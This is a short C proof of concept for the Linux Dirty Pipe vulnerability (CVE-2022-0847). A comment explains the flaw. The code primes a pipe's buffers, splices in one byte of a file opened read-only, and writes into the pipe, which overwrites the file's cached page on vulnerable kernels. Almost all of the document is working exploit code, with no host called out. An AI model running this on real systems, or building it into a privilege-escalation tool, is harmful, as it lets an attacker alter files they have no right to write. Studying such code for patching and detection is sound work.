/*
 * What CVE-2022-0847 did: a pipe whose buffers may all be added to, then a page
 * of a file in it, then a write to the pipe. In a kernel before 5.16.11 that
 * byte is in the page cache, without the right to write to the file.
 */
#include <fcntl.h>
#include <unistd.h>

int
main(int argc, char *argv[])
{
	int ends[2];
	char byte = 'X';
	off64_t start = 0;

	int fd = open(argc > 1 ? argv[1] : "", O_RDONLY);
	if (fd == -1 || pipe(ends) == -1)
		return 1;
	int size = fcntl(ends[1], F_GETPIPE_SZ);
	for (int i = 0; i < size; i++)
		if (write(ends[1], &byte, 1) != 1)
			return 1;
	for (int i = 0; i < size; i++)
		if (read(ends[0], &byte, 1) != 1)
			return 1;
	if (splice(fd, &start, ends[1], NULL, 1, 0) != 1)
		return 1;
	return write(ends[1], &byte, 1) == 1 ? 0 : 1;
}
